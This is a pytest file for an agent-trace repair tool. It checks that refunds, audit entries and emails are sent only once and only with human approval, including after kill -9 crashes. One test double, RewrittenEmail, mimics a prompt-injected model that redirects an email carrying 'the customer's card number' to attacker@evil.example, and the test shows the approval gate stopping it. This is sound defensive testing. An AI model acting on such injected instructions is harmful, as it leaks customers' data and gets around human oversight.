"""A repair's side effects happen once, and only as a person approved them: the call log in
the store (repair/tools/calllog.py), kill -9 at each point of its protocol, approvals bound to
the call a stop showed. The tools make real, counted effects (tests/side_effect_tools.py).

The crashes run the real CLI through tests/hooked_cli.py (a real SIGKILL at a checkpoint);
what comes before and after runs in this process, against the same store (fast)."""

from __future__ import annotations

import json
import signal
import subprocess
from pathlib import Path
from typing import Any

import pytest

from provrepair.provenance.errors import NothingToResume
from provrepair.provenance.ingest import delete_task, ingest_case
from provrepair.provenance.state.calls import CallStatus, call_id
from provrepair.provenance.store.base import GraphStore
from provrepair.provenance.validate import parse_case
from provrepair.repair.current import current_case
from provrepair.repair.derive import ToolCall
from provrepair.repair.reasoners.base import StepOutput, StepRequest
from provrepair.repair.reasoners.offline import OfflineReasoner
from provrepair.repair.runs import list_runs
from provrepair.repair.service import RepairReport, Resume, repair_task
from provrepair.repair.tools.base import ToolResult
from provrepair.repair.tools.calllog import (
    EARLIER_VERSION,
    LoggedCall,
    issued_calls,
    read_calls,
    side_effects_by_run,
    write_calls,
)
from provrepair.repair.tools.declared import ToolSet
from tests import hooked_cli, side_effect_tools
from tests.conftest import REPO, Cli

CASES = REPO / "tests" / "cases"
REFUND = CASES / "replay" / "small_side_effect_needs_human.json"  # one irreversible refund
CHAIN = CASES / "calls" / "refund_audit_email.json"  # refund ∥ audit, then an email
ARGS = {"amount": "$120.00", "order_id": "ORD00200"}


def ingest(store: GraphStore, path: Path) -> str:
    case = parse_case(json.loads(path.read_text()))
    ingest_case(store, case)
    return case.task_id


def repair(store: GraphStore, task_id: str, tools: ToolSet = side_effect_tools.TOOLS,
           reasoner: Any = None, **decided: frozenset[str]) -> RepairReport:
    resume = Resume(**decided) if decided else None
    return repair_task(store, task_id, reasoner or OfflineReasoner(), tools=tools,
                       resume=resume)


def tools(path: Path, tool: str | None = None) -> list[str]:
    return [r["tool"] for r in side_effect_tools.made(path, tool)]


# (kill point, effects made when killed, then the same resume again: status, effects)
POINTS = [("before_intent", 0, "repaired", 1),
          ("after_intent", 0, "needs_human", 0),   # it may have been sent: a person checks
          ("after_call", 1, "needs_human", 1),     # ... and it is never sent again
          ("after_result", 1, "repaired", 1)]      # its result is reused
# (with an idempotency key the tool accepts, an unknown outcome is sent again with the same
# key: tests/unit/test_call_gate.py, and over MCP in tests/integration/test_agent_e2e.py)


@pytest.mark.parametrize("point, at_kill, status, made", POINTS, ids=[p[0] for p in POINTS])
def test_kill_9_at_each_point_of_the_protocol_never_sends_a_call_twice(
        falkordb_store: GraphStore, cli: Cli, point: str, at_kill: int, status: str, made: int,
        effects: Path) -> None:
    store = falkordb_store
    task = ingest(store, REFUND)
    stopped = repair(store, task)
    refund = call_id("s_003", "issue_refund", ARGS)
    assert stopped.status == "needs_human" and [p["call_id"] for p in stopped.pending] == [refund]
    killed = subprocess.run(
        hooked_cli.command("repair", "--task", task, "--tools", "tests.side_effect_tools:TOOLS",
                           "--resume", "--approve", "s_003"),
        capture_output=True, text=True, timeout=120,
        env={**cli.env, "HOOK_KILL_AT": point, "PYTHONPATH": str(REPO),
             "PROVREPAIR_TEST_EFFECTS": str(effects)})
    assert killed.returncode == -signal.SIGKILL, killed.stderr
    assert len(side_effect_tools.made(effects)) == at_kill
    again = repair(store, task, approve=frozenset({"s_003"}))  # the same command, again
    assert again.status == status, again.unresolved
    assert len(side_effect_tools.made(effects)) == made  # never a second refund
    logged = {c.call_id: c for c in read_calls(store, task)}[refund]
    if status == "needs_human":  # the person is told it may have been issued
        assert again.pending[0]["kind"] == "unknown_outcome"
        assert "may have been issued" in again.pending[0]["reason"]
        assert logged.status is CallStatus.ISSUING and logged.attempts == 1
    else:
        assert again.answer == "Refunded $120.00 for ORD00200."
        assert logged.status is CallStatus.DONE and logged.approved_run is not None


def test_the_log_keeps_each_transition_on_both_engines(store: GraphStore) -> None:
    """The log's two statements on each engine: a call first shown, then sent, then answered
    is one :ToolCall, keeping when it first entered the log."""
    task = ingest(store, REFUND)
    shown = LoggedCall(call_id("s_003", "issue_refund", ARGS), "s_003", "issue_refund", ARGS,
                       CallStatus.PENDING, "irreversible", run_id="run-1", created=1000)
    write_calls(store, task, [shown])
    sent = LoggedCall(**{**shown.__dict__, "status": CallStatus.ISSUING, "attempts": 1,
                         "run_id": "run-2", "approved_run": "run-2", "created": 2000})
    write_calls(store, task, [sent])
    write_calls(store, task, [LoggedCall(**{**sent.__dict__, "status": CallStatus.DONE,
                                            "result": "Refunded", "facts": [{"a": 1}]})])
    [logged] = read_calls(store, task)
    assert (logged.status, logged.attempts, logged.run_id, logged.approved_run, logged.result,
            logged.facts, logged.created, logged.args) == (
        CallStatus.DONE, 1, "run-2", "run-2", "Refunded", [{"a": 1}], 1000, ARGS)


def _log_of_every_kind(store: GraphStore, task: str) -> dict[str, LoggedCall]:
    """One call of each kind a version can leave in its log (distinct steps)."""
    def call(step: str, status: CallStatus, side_effect: str = "irreversible",
             attempts: int = 1) -> LoggedCall:
        return LoggedCall(call_id(step, "issue_refund", ARGS), step, "issue_refund", ARGS,
                          status, side_effect, run_id="run-old", attempts=attempts)
    calls = {"done": call("s_1", CallStatus.DONE), "failed": call("s_2", CallStatus.FAILED),
             "unknown": call("s_3", CallStatus.ISSUING),
             "read_only": call("s_4", CallStatus.DONE, "read_only"),
             "skipped_sent": call("s_5", CallStatus.SKIPPED),
             "approved_sent": call("s_6", CallStatus.APPROVED),
             "approved": call("s_7", CallStatus.APPROVED, attempts=0),
             "pending": call("s_8", CallStatus.PENDING, attempts=0),
             "skipped": call("s_9", CallStatus.SKIPPED, attempts=0)}
    write_calls(store, task, list(calls.values()))
    return calls


def test_a_new_version_and_a_delete_keep_only_the_calls_that_may_have_acted_on_both_engines(
        store: GraphStore) -> None:
    """swap_staged_task and delete_task keep the calls that may have acted of tools that are
    not read-only (by the statuses and class Python passes); a person's decision about a kept
    call (a skip, an approval after it was sent) holds for its version only: the next one
    sees it as of unknown outcome. Read-only answers, approvals, pending and skipped calls
    never sent go with the version."""
    raw = json.loads(REFUND.read_text())
    task = ingest(store, REFUND)
    calls = _log_of_every_kind(store, task)
    kept = {calls["done"].call_id: CallStatus.DONE, calls["failed"].call_id: CallStatus.FAILED,
            calls["unknown"].call_id: CallStatus.ISSUING,
            calls["skipped_sent"].call_id: CallStatus.ISSUING,
            calls["approved_sent"].call_id: CallStatus.ISSUING}
    raw["session"][-1]["content"] += " (thanks)"
    ingest_case(store, parse_case(raw), replace=True)
    assert {c.call_id: c.status for c in read_calls(store, task)} == kept
    assert all(c.from_earlier_version for c in read_calls(store, task))
    calls = _log_of_every_kind(store, task)
    delete_task(store, task)
    assert {c.call_id: c.status for c in read_calls(store, task)} == kept


def test_approving_one_stop_at_a_time_makes_progress_and_acts_once(
        falkordb_store: GraphStore, effects: Path) -> None:
    """Three irreversible calls, the first two sent together (parallel): the first stop shows
    both, the email waits for the refund's result. Approving one at a time, then the rest:
    three approvals, each call sent once, and the graph holds what was sent."""
    store = falkordb_store  # in-process, one engine (the crash test runs over Bolt too)
    task = ingest(store, CHAIN)
    first = repair(store, task)
    assert first.status == "needs_human" and tools(effects) == []
    assert [(p["step_id"], p["tool"], p["args"]) for p in first.pending] == [
        ("s_003", "issue_refund", ARGS), ("s_004", "log_audit", ARGS)]
    second = repair(store, task, approve=frozenset({"s_003"}))
    assert second.status == "needs_human" and tools(effects) == ["issue_refund"]
    assert [(p["step_id"], p["args"]) for p in second.pending] == [
        ("s_004", ARGS),
        ("s_007", {"to": "me@example.com", "body": "Refunded $120.00 for ORD00200."})]
    done = repair(store, task, approve=frozenset({"s_004", "s_007"}))
    assert done.status == "repaired", done.unresolved
    assert tools(effects) == ["issue_refund", "log_audit", "send_email"]
    assert done.answer == "Refunded $120.00 for ORD00200; the email says so."
    assert done.counts["reused_calls"] == 1 and done.counts["tool_calls"] == 2
    # each action and its observation are the ones sent; the poisoned results are gone
    trace = {s["step_id"].split("@")[0]: s["content"] for s in current_case(store, task)["trace"]}
    assert trace["s_005"] == "Refunded $120.00 for ORD00200 (R-1)"
    assert trace["s_006"] == "Audit entry A-1: refund $120.00 for ORD00200"
    assert trace["s_008"] == "Email E-1 sent to me@example.com"
    assert "$240.00" not in json.dumps(trace)
    logged = {c.tool: (c.status, c.attempts, c.approved_run) for c in read_calls(store, task)}
    assert logged == {"issue_refund": (CallStatus.DONE, 1, second.run_id),
                      "log_audit": (CallStatus.DONE, 1, done.run_id),
                      "send_email": (CallStatus.DONE, 1, done.run_id)}
    assert repair(store, task).status == "already_repaired" and len(tools(effects)) == 3


class RewrittenEmail:
    """The offline reasoner, except that from its `after`-th request for the email step on it
    writes the email to someone else (as a prompt injection in a tool result could make a
    model do)."""

    name = "offline"

    def __init__(self, after: int):
        self.after, self.asked, self.inner = after, 0, OfflineReasoner()

    def regenerate(self, request: StepRequest) -> StepOutput:
        output = self.inner.regenerate(request)
        if request.step.step_id == "s_007" and output.tool_call is not None:
            self.asked += 1
            if self.asked > self.after:
                call = ToolCall("send_email", {"to": "attacker@evil.example",
                                               "body": "the customer's card number"})
                return StepOutput(call.content(), output.cited_ids, tool_call=call)
        return output


def test_an_approval_never_lets_through_a_call_other_than_the_one_shown(
        falkordb_store: GraphStore, effects: Path) -> None:
    store = falkordb_store
    task = ingest(store, CHAIN)
    repair(store, task)
    shown = repair(store, task, approve=frozenset({"s_003", "s_004"}))
    email = next(p for p in shown.pending if p["step_id"] == "s_007")
    assert email["args"]["to"] == "me@example.com"
    # the person approves the email they were shown; the replay now writes another one
    again = repair(store, task, reasoner=RewrittenEmail(after=0), approve=frozenset({"s_007"}))
    assert again.status == "needs_human" and tools(effects, "send_email") == []
    [other] = again.pending
    assert other["args"]["to"] == "attacker@evil.example" and other["call_id"] != email["call_id"]
    with pytest.raises(NothingToResume, match=f"is #{other['call_id']}, not #{email['call_id']}"):
        repair(store, task, approve=frozenset({f"s_007:{email['call_id']}"}))
    skipped = repair(store, task, reasoner=RewrittenEmail(after=0), skip=frozenset({"s_007"}))
    assert skipped.status == "partial" and "not re-issued (--skip)" in skipped.unresolved["s_007"]
    assert tools(effects) == ["issue_refund", "log_audit"]  # no email was ever sent


def _refund_then_bug(order_id: str, amount: str) -> str:
    """A refund whose code fails after the money moved (a TypeError inside the function)."""
    side_effect_tools.refund(order_id, amount)
    return str(len(None))  # type: ignore[arg-type]


def test_a_tool_that_raises_after_acting_is_never_sent_again(
        falkordb_store: GraphStore, effects: Path) -> None:
    """One approval, one sending: an exception from inside the call (a TypeError too) may
    come after it acted, so the call is FAILED and `--continue` never sends it again."""
    store = falkordb_store
    buggy = ToolSet().add(_refund_then_bug, "irreversible", name="issue_refund")
    task = ingest(store, REFUND)
    assert repair(store, task, buggy).status == "needs_human"
    sent = repair(store, task, buggy, approve=frozenset({"s_003"}))
    assert sent.status == "partial" and "TypeError" in sent.unresolved["s_003"]
    for _ in range(2):
        again = repair_task(store, task, OfflineReasoner(), tools=buggy, continue_partial=True)
        assert "not sent again" in again.unresolved["s_003"], again.unresolved
    assert tools(effects) == ["issue_refund"]
    [logged] = read_calls(store, task)
    assert (logged.status, logged.attempts) == (CallStatus.FAILED, 1)


class RewordedRefund:
    """The offline reasoner, except that it writes the refund's amount another way ("120.00
    USD" for "$120.00"): a resume regenerates the step with other arguments."""

    name = "offline"

    def __init__(self) -> None:
        self.inner = OfflineReasoner()

    def regenerate(self, request: StepRequest) -> StepOutput:
        output = self.inner.regenerate(request)
        if request.step.step_id == "s_003" and output.tool_call is not None:
            call = ToolCall("issue_refund", {**output.tool_call.args, "amount": "120.00 USD"})
            return StepOutput(call.content(), output.cited_ids, tool_call=call)
        return output


def _void_refund(order_id: str, amount: str) -> str:
    side_effect_tools._effect("void_refund", order_id=order_id, amount=amount)
    return "voided"


COMPENSABLE = (ToolSet()
               .add(side_effect_tools.refund, "compensable", compensate="void_refund",
                    name="issue_refund")
               .add(_void_refund, "idempotent", name="void_refund")
               .add(side_effect_tools.log_audit, "irreversible")
               .add(side_effect_tools.send_email, "irreversible"))


def test_a_step_that_sent_a_call_stops_before_sending_a_different_one(
        falkordb_store: GraphStore, effects: Path) -> None:
    """A compensable refund sent by the first run (after voiding the recorded one); the
    resume regenerates it with other arguments: it stops for a person, showing the earlier
    call and the new one, and sends nothing (a call is named by its arguments, so the log
    alone would not see it as the same refund)."""
    store = falkordb_store
    task = ingest(store, CHAIN)
    first = repair(store, task, COMPENSABLE)
    assert first.status == "needs_human" and tools(effects) == ["void_refund", "issue_refund"]
    second = repair(store, task, COMPENSABLE, reasoner=RewordedRefund(),
                    approve=frozenset({"s_004"}))
    assert second.status == "needs_human"
    [shown] = [p for p in second.pending if p["step_id"] == "s_003"]
    assert shown["args"]["amount"] == "120.00 USD"
    assert "already sent a different call" in shown["reason"]
    assert call_id("s_003", "issue_refund", ARGS) in shown["reason"]
    assert tools(effects, "issue_refund") == ["issue_refund"]



def test_a_stop_before_an_irreversible_call_says_its_step_already_sent_another(
        falkordb_store: GraphStore, effects: Path) -> None:
    store = falkordb_store
    task = ingest(store, CHAIN)
    repair(store, task)
    repair(store, task, approve=frozenset({"s_003"}))
    again = repair(store, task, reasoner=RewordedRefund(), approve=frozenset({"s_004"}))
    [shown] = [p for p in again.pending if p["step_id"] == "s_003"]
    assert shown["args"]["amount"] == "120.00 USD"
    assert "step 's_003' already sent a different call: issue_refund" in shown["reason"]
    assert tools(effects, "issue_refund") == ["issue_refund"]


def test_a_new_version_or_a_deleted_task_keeps_the_calls_sent(
        falkordb_store: GraphStore, effects: Path) -> None:
    """`ingest --replace` and `delete` drop a version and its runs, never the log of what its
    repairs sent: the repair of the version ingested next reuses the refund's result."""
    store = falkordb_store
    raw = json.loads(REFUND.read_text())
    task = ingest(store, REFUND)
    repair(store, task)
    assert repair(store, task, approve=frozenset({"s_003"})).status == "repaired"
    assert tools(effects) == ["issue_refund"]
    raw["session"][-1]["content"] += " (thanks)"
    ingest_case(store, parse_case(raw), replace=True)
    again = repair(store, task)
    assert (again.status, again.counts["reused_calls"]) == ("repaired", 1), again.unresolved
    # `history` lists the refund as sent by a repair of the earlier version, not by this one
    by_run = side_effects_by_run(list_runs(store, task), issued_calls(store, task))
    assert [(owner, [c.tool for c in calls]) for owner, calls in by_run.items()] == [
        (EARLIER_VERSION, ["issue_refund"])]
    delete_task(store, task)
    ingest_case(store, parse_case(raw))
    after_delete = repair(store, task)
    assert (after_delete.status, after_delete.counts["reused_calls"]) == ("repaired", 1)
    assert tools(effects) == ["issue_refund"]  # never sent again


def test_a_new_version_asks_a_read_only_tool_again(falkordb_store: GraphStore) -> None:
    """A read-only answer belongs to the version that asked: the repair of the version
    ingested next calls the tool again and uses its new answer (not the old one's)."""
    store = falkordb_store
    answers = iter(["R-old", "R-new"])
    asked: list[str] = []

    def lookup(order_id: str, amount: str) -> ToolResult:
        asked.append(next(answers))
        return ToolResult(f"Refund {asked[-1]} of {order_id}", [
            {"entity_id": asked[-1], "fact_key": "amount", "fact_value": amount},
            {"entity_id": order_id, "fact_key": "refund_id", "fact_value": asked[-1]}])

    read_only = ToolSet().add(lookup, "read_only", name="issue_refund")
    raw = json.loads(REFUND.read_text())
    task = ingest(store, REFUND)
    first = repair(store, task, read_only)
    assert first.status == "repaired", first.unresolved
    raw["session"][-1]["content"] += " (thanks)"
    ingest_case(store, parse_case(raw), replace=True)
    again = repair(store, task, read_only)
    assert (again.status, again.counts["reused_calls"], asked) == (
        "repaired", 0, ["R-old", "R-new"])


def _refund_of_unknown_outcome(store: GraphStore, task: str) -> str:
    """After a first stop, a resume died after committing the refund's intent; its call id."""
    repair(store, task)
    refund = call_id("s_003", "issue_refund", ARGS)
    write_calls(store, task, [LoggedCall(refund, "s_003", "issue_refund", ARGS,
                                         CallStatus.ISSUING, "irreversible", run_id="run-x",
                                         attempts=1)])
    return refund


def test_a_skip_holds_for_its_version_only(falkordb_store: GraphStore, effects: Path) -> None:
    """A person skipped a refund that may have been sent; the version ingested next does not
    inherit the skip: its repair stops at the step, showing the call as may have been sent."""
    store = falkordb_store
    raw = json.loads(REFUND.read_text())
    task = ingest(store, REFUND)
    refund = _refund_of_unknown_outcome(store, task)
    repair(store, task, approve=frozenset())
    assert repair(store, task, skip=frozenset({"s_003"})).status == "partial"
    raw["session"][-1]["content"] += " (thanks)"
    ingest_case(store, parse_case(raw), replace=True)
    new = repair(store, task)
    assert new.status == "needs_human", new.unresolved
    assert [(p["call_id"], p["kind"]) for p in new.pending] == [(refund, "unknown_outcome")]
    assert tools(effects) == []  # nothing was sent


def test_a_call_that_may_have_been_sent_stays_in_the_history_when_skipped(
        falkordb_store: GraphStore, effects: Path) -> None:
    """A resume died after committing the refund's intent; the next stop says it may have
    been issued, and the person skips it: the log still lists it among what was sent."""
    store = falkordb_store
    task = ingest(store, REFUND)
    refund = _refund_of_unknown_outcome(store, task)
    shown = repair(store, task, approve=frozenset())
    assert [(p["call_id"], p["kind"]) for p in shown.pending] == [(refund, "unknown_outcome")]
    skipped = repair(store, task, skip=frozenset({"s_003"}))
    assert skipped.status == "partial"
    assert [(c.call_id, c.status) for c in issued_calls(store, task)] == [
        (refund, CallStatus.SKIPPED)]
